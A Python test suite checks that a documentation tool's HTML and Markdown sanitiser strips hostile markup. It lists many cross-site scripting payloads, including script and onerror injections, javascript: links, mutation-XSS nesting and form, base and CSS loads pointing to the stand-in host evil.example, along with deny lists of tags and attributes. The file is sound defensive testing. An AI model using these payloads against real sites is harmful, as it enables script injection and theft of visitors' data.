"""HTML and Markdown that people wrote to run scripts, ask other hosts, or take the place of the page's own parts."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from headland.prose import render_markdown, render_page, sanitise
from headland.prose.allowed import names

LOADING = names("src srcset poster background data action formaction xlink:href srcdoc manifest")
FORBIDDEN_TAGS = names(
    "applet base button embed form frame frameset iframe link math meta noscript object script select style template "
    "textarea title use foreignobject animate set image dialog portal slot"
)


class Judge(HTMLParser):
    """Reads HTML and writes down all that must not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            text = (value or "").strip()
            if name.startswith("on"):
                self.wrong.append(f"{tag} {name}")
            if name in LOADING and (urlsplit(text.replace("\\", "/")).netloc or ":" in text.split("/")[0]):
                self.wrong.append(f"{tag} {name}={text}")
            scheme, colon, _ = text.split("/")[0].split("#")[0].split("?")[0].partition(":")
            if name == "href" and colon and scheme.lower() not in ("http", "https", "mailto", "entity"):
                self.wrong.append(f"{tag} href={text}")
            if name == "id" and text.startswith("__") and not text.startswith(("__tabbed", "__code", "__span")):
                self.wrong.append(f"id={text}")
            if name == "style" and ("url(" in text.lower() or "position" in text.lower()):
                self.wrong.append(f"style={text}")


def wrong_in(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.wrong


ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><circle r=9></circle></a></svg>",
    "<svg><use href='//evil.example/x.svg#a'></use></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><path d='M1' fill='url(https://evil.example/x)'></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<embed src='https://evil.example/x'>",
    "<form action='https://evil.example'><input type=submit><button formaction='javascript:x'>go</button></form>",
    "<input type=password name=password autofocus onfocus=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)'>x</p>",
    "<div style='background-image:url(https://evil.example/x)'>x</div>",
    "<img src='//evil.example/x.png'>",
    "<img src='\\\\evil.example/x.png'>",
    "<img src='/\\evil.example/x.png'>",
    "<img src='https:evil.example/x.png'>",
    "<img src='\thttps://evil.example/x.png'>",
    "<img srcset='https://evil.example/x.png 2x' src=a.png>",
    "<picture><source srcset='https://evil.example/x'><img src=a.png></picture>",
    "<video src='https://evil.example/x' poster='https://evil.example/y' autoplay></video>",
    "<audio><source src='https://evil.example/x'></audio>",
    "<track src='//evil.example/x'>",
    "<table background='https://evil.example/x'><td background='//evil.example/y'>x</td></table>",
    "<h1 id='__config'>x</h1>",
    "<h1 id='__search'>x</h1><label for='__drawer'>x</label>",
    "<a name='__config'>x</a><img name='body' src=a.png>",
    "<div class='md-overlay md-dialog' data-md-component='search'>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<select><option><script>alert(1)</script></option></select>",
    "<p/onclick=alert(1)>x",
    "<details ontoggle=alert(1) open>x</details>",
    "\x00<img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_is_made_harmless(attack: str) -> None:
    """CVE-2021-32661 (a script by an object element) and its family."""
    html = sanitise(attack)
    assert wrong_in(html) == []
    assert "alert(1)</script" not in html


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "text {} text", "> {}", "- {}", "| a |\n|---|\n| {} |", "<div markdown>\n{}\n</div>"]
)
def test_markdown_is_made_harmless_wherever_the_html_stands(attack: str, around: str) -> None:
    text = around.format(attack)
    assert wrong_in(render_markdown(text)) == []
    assert wrong_in(render_page(text).html) == []


MARKDOWN_ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "![x](https://evil.example/x.png)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '![x" onerror="alert(1)](a.png)',
    "# x {#__config onclick=alert(1)}",
    "text\n{: onclick=alert(1) style=position:fixed }",
    "![x](a.png){ onerror=alert(1) src=//evil.example/x }",
    "``` { .yaml onclick=alert(1) #__search }\na: 1\n```",
    "```mermaid\ngraph LR\n  A[<img src=x onerror=alert(1)>]\n  click A javascript:alert(1)\n```",
    '++"<img src=x onerror=alert(1)>"++',
    "<javascript:alert(1)>",
    '*[x]: "><img src=x onerror=alert(1)>\n\nx',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '=== "<img src=x onerror=alert(1)>"\n    x',
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '```python title="<img src=x onerror=alert(1)>"\nx\n```',
]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_cannot_make_what_html_may_not(attack: str) -> None:
    assert wrong_in(render_markdown(attack)) == []
    assert wrong_in(render_page(attack).html) == []


def test_an_authors_classes_cannot_take_the_place_of_the_themes() -> None:
    html = sanitise('<div class="md-overlay hl-searchbox note md-button">x</div>')
    assert html == '<div class="note md-button">x</div>'


def test_an_author_has_no_data_attributes_that_scripts_act_upon() -> None:
    html = sanitise('<a data-hl-search data-copy="rm -rf" data-md-component="search" data-root="//evil.example">x</a>')
    assert html == "<a>x</a>"


PIECES = st.sampled_from(
    sorted(
        names(
            "< > </ /> \" ' = & ; svg math style script img a p title src href onerror onclick javascript: alert(1) "
            "//evil.example <!-- --> <![CDATA[ ]]> table td annotation-xml foreignObject mglyph noscript template ` "
            "{#__x} [ ]( )"
        )
        | {" ", "\n", "\x00"}
    )
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_no_heap_of_pieces_gets_through(text: str) -> None:
    once = sanitise(text)
    assert wrong_in(once) == []
    assert sanitise(once) == once
    assert wrong_in(render_markdown(text)) == []
